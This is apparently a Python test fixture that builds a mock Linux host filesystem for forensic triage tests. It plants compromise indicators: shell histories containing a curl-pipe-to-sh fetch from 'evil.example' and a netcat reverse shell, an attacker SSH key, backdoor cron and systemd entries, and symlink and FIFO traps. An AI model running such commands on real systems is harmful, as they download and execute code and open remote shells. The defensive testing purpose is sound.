"""A small host file system for triage tests: users, histories, cron, units, /tmp and traps."""

from __future__ import annotations

import os
from pathlib import Path

SECRET = b"outside the listed places: must never be read\n"


def write_file(root: Path, host_path: str, data: bytes = b"", mode: int = 0o644) -> Path:
    """Write ``data`` at ``host_path`` inside the tree at ``root`` with ``mode``."""
    path = root / host_path.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    return path


def make_host(base: Path) -> Path:
    """A small host file system: users, histories, keys, cron, units, /tmp, and some traps."""
    root = base / "host"
    write_file(
        root,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\n"
        b"alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        b"svc:x:998:998::/srv/svc:/bin/sh\n"
        b"# a comment line\n",
    )
    write_file(root, "/etc/group", b"root:x:0:\nalice:x:1000:\n")
    write_file(root, "/etc/shadow", b"root:$6$secret-hash:19000::::::\n", 0o600)
    write_file(root, "/root/.bash_history", b"curl http://evil.example/x | sh\n")
    write_file(root, "/home/alice/.bash_history", b"ls\nsudo -i\n")
    write_file(root, "/home/alice/.zsh_history", b": 1700000000:0;whoami\n")
    write_file(root, "/home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker@evil\n")
    write_file(root, "/home/alice/.config/systemd/user/miner.service", b"[Service]\nExecStart=/x\n")
    write_file(root, "/srv/svc/.sh_history", b"nc -e /bin/sh 203.0.113.9 4444\n")
    write_file(root, "/etc/crontab", b"* * * * * root /tmp/dropper\n")
    write_file(root, "/etc/cron.d/job", b"*/5 * * * * root /usr/bin/true\n")
    write_file(root, "/var/spool/cron/crontabs/alice", b"@reboot /home/alice/.x\n", 0o600)
    write_file(root, "/etc/systemd/system/backdoor.service", b"[Service]\nExecStart=/tmp/dropper\n")
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "backdoor.service").symlink_to("/etc/systemd/system/backdoor.service")
    write_file(root, "/tmp/dropper", b"\x7fELF" + b"\0" * 60, 0o755)
    write_file(root, "/tmp/.hidden/payload", b"#!/bin/sh\nexec sh\n", 0o700)
    write_file(root, "/dev/shm/x", b"in memory")
    (root / "var/tmp").mkdir(parents=True)

    # Traps: links out of the listed places, and files that would block a reader.
    outside = base / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(SECRET)
    (root / "etc/cron.d/escape").symlink_to(outside / "secret")
    (root / "home/bob").symlink_to(outside)
    write_file(root, "/home/carol/.placeholder")
    (root / "home/carol/.bash_history").symlink_to("/dev/null")
    (root / "tmp/link").symlink_to(outside / "secret")
    os.mkfifo(root / "tmp/pipe")
    os.mkfifo(root / "etc/cron.d/pipe")
    return root
